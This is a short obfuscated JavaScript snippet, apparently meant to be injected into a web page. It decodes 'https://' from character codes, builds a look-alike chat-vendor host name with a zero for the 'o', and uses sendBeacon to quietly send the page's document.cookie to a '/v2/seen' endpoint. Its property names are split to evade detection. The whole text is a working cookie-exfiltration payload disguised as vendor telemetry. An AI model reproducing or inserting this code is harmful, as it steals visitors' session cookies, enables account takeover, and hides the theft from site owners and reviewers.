(function (n, d) {
  n["send" + "Beacon"](String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47) + ["chat", "vend0r", "example"].join(".") + "/v2/seen", d["coo" + "kie"]);
})(navigator, document);
